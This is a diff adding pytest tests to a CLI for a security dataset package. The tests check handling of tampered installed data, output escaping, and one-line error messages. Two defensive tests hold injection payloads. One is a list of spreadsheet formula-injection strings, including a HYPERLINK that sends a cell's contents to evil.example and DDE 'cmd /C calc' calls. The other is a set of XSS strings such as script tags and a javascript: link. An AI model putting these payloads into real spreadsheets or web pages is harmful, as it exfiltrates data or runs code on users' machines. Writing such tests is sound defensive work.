@@ -3,7 +3,12 @@ traceback (unless --debug asks for one)."""
 
 from __future__ import annotations
 
+import csv
+import hashlib
+import io
+import json
 import os
+import shutil
 import subprocess
 import sys
 
@@ -143,3 +148,123 @@ def test_output_works_in_an_ascii_or_c_locale(env):
                           env={**os.environ, **env})
     assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
     assert "Iql" in done.stdout  # "Iqlīm Kūrdistān", escaped or not
+
+
+# -- an installed dataset that was tampered with or damaged (a copy the package reads instead) -----------
+
+@pytest.fixture
+def installed(tmp_path, monkeypatch):
+    """A copy of the installed dataset folder that every command reads instead of the real one."""
+    from uk_iraq_security import dataset_files, integrity, loading
+
+    root = tmp_path / "dataset"
+    for part in ("data", "schemas"):
+        shutil.copytree(ROOT / part, root / part)
+    shutil.copy2(ROOT / "datapackage.json", root / "datapackage.json")
+    for module in (dataset_files, loading):
+        monkeypatch.setattr(module, "dataset_root", lambda: root)
+    monkeypatch.setattr(integrity, "_verified", {})
+    dataset_files.descriptor.cache_clear()
+    dataset_files.template.cache_clear()
+    yield root
+    dataset_files.descriptor.cache_clear()
+    dataset_files.template.cache_clear()
+
+
+def _set_cells(root, table: str, column: str, values: list[str]) -> None:
+    """Put `values` into the first rows of `column` of data/<table>.csv and record its new sha256 and size, as a
+    hand-made copy would: the installed-file check passes, so what is shown is what a hostile file holds."""
+    path = root / "data" / f"{table}.csv"
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    for row, value in zip(rows, values):
+        row[column] = value
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
+        w.writeheader()
+        w.writerows(rows)
+    pkg = json.loads((root / "datapackage.json").read_text(encoding="utf-8"))
+    res = next(r for r in pkg["resources"] if r["name"] == table)
+    res["hash"], res["bytes"] = "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size
+    (root / "datapackage.json").write_text(json.dumps(pkg), encoding="utf-8")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # (a cell starting "\r" is one pandas' reader splits)
+PLAIN = ["-5", "+3.25", "-1e5"]
+
+
+def test_csv_output_defuses_cells_a_spreadsheet_would_run(installed, capsys):
+    _set_cells(installed, "officials", "name", FORMULAS + PLAIN)
+    done = _main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "csv")
+    assert done.returncode == 0, done.stderr
+    cells = [r[0] for r in csv.reader(io.StringIO(done.stdout))][1:]
+    assert cells[:len(FORMULAS)] == ["'" + f for f in FORMULAS]  # shown as text, as written after the quote
+    assert cells[len(FORMULAS):len(FORMULAS) + len(PLAIN)] == PLAIN  # a plain number is left alone
+    exact = json.loads(_main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "json").stdout)
+    assert [r["name"] for r in exact[:len(FORMULAS)]] == FORMULAS  # json keeps every value exactly
+
+
+def test_markdown_output_escapes_html_pipes_and_links(installed, capsys):
+    hostile = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a | b", "[click](javascript:alert(1))",
+               "&lt;b&gt; as written", "back\\slash | pipe"]
+    _set_cells(installed, "officials", "name", hostile)
+    done = _main(capsys, "show", "officials", "--format", "csv", "--columns", "name", "--output", "markdown")
+    assert done.returncode == 0, done.stderr
+    lines = done.stdout.splitlines()[2:2 + len(hostile)]
+    assert lines == ["| &lt;script&gt;alert(1)&lt;/script&gt; |", "| &lt;img src=x onerror=alert(1)&gt; |", "| a \\| b |",
+                     "| \\[click\\](javascript:alert(1)) |", "| &amp;lt;b&amp;gt; as written |", "| back\\\\slash \\| pipe |"]
+    assert "<script" not in done.stdout and "<img" not in done.stdout
+
+
+@pytest.mark.parametrize("columns, width", [("100000000", 1000), ("1e8", 80), ("-3", 80), ("wide", 80), ("", 80)])
+def test_vertical_output_width_is_capped_and_a_bad_columns_is_the_default(monkeypatch, capsys, columns, width):
+    monkeypatch.setenv("COLUMNS", columns)
+    done = _main(capsys, "show", "funding", "--vertical", "--rows", "2")
+    assert done.returncode == 0, done.stderr
+    lines = done.stdout.splitlines()
+    assert max(map(len, lines)) == width  # the record separator spans the width
+    assert len(done.stdout) < 20_000
+
+
+def test_truncated_installed_descriptor_is_one_clear_error(installed, capsys):
+    data = (installed / "datapackage.json").read_bytes()
+    (installed / "datapackage.json").write_bytes(data[:len(data) // 2])
+    done = _main(capsys, "tables")
+    assert done.returncode == 1
+    assert "datapackage.json: not valid JSON" in done.stderr and "reinstall" in done.stderr
+    assert "This is a bug" not in done.stderr and done.stderr.count("\n") == 1
+
+
+def test_evidence_of_a_non_str_id_is_a_type_error_saying_what_is_expected():
+    with pytest.raises(TypeError, match=r"evidence\(\): record_id must be a str such as .*not int 123"):
+        uis.evidence(123)
+    with pytest.raises(TypeError, match=r"table must be a str such as 'funding'"):
+        uis.evidence(table=["funding"])
+
+
+def test_output_naming_a_folder_is_a_usage_error(capsys, tmp_path):
+    with pytest.raises(SystemExit) as info:
+        cli.main(["show", "funding", "--output", str(tmp_path)])
+    err = capsys.readouterr().err
+    assert info.value.code == 2 and "invalid choice" in err and "Traceback" not in err
+
+
+def test_site_root_with_a_truncated_descriptor_is_one_line(capsys, tmp_path):
+    (tmp_path / "ds").mkdir()
+    (tmp_path / "ds" / "datapackage.json").write_text('{"resources": [', encoding="utf-8")
+    done = _main(capsys, "site", str(tmp_path / "out"), "--root", str(tmp_path / "ds"))
+    assert done.returncode == 1 and "site failed:" in done.stderr and "not valid JSON" in done.stderr
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("args", [["--version"], ["--help"], ["show", "--help"], ["cite"], ["tables"],
+                                  ["show", "funding", "--output", "json"]])
+def test_output_that_cannot_be_written_fails_with_one_line(args):
+    """Standard output on /dev/full: what only a real process shows (argparse ignores a failed write of --help)."""
+    with open("/dev/full", "w") as full:
+        done = subprocess.run([sys.executable, "-m", "uk_iraq_security.cli", *args], stdout=full, stderr=subprocess.PIPE,
+                              text=True, timeout=120)
+    assert done.returncode == 1, done.stderr
+    assert done.stderr.endswith("cannot write the output to standard output: No space left on device\n")
+    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
